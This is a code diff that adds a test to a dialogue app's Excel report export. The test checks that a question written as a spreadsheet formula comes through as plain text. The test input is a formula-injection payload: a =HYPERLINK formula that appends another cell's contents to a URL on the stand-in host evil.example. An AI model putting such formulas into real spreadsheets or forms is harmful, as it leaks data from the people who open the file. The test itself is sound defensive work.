@@ -91,6 +91,16 @@ def test_the_report_downloads_as_xlsx_with_one_row_per_item(client, committee, s
     }
 
 
+def test_a_question_written_as_a_formula_reaches_the_report_as_text(client, committee, routed):
+    attack = '=HYPERLINK("http://evil.example/?q="&B2,"Xem chi tiết")'
+    routed("hoc-phi", attack)
+    client.force_login(committee)
+    wb = load_workbook(BytesIO(client.get(reverse("dialogue:report-xlsx")).content))
+    cells = [c for row in wb.worksheets[0].iter_rows(min_row=2) for c in row]
+    (cell,) = [c for c in cells if c.value == attack]
+    assert cell.data_type == "s"
+
+
 def test_learners_and_visitors_cannot_read_the_report(client, make_user):
     assert client.get(reverse("dialogue:report")).status_code == 302
     client.force_login(make_user("learner"))
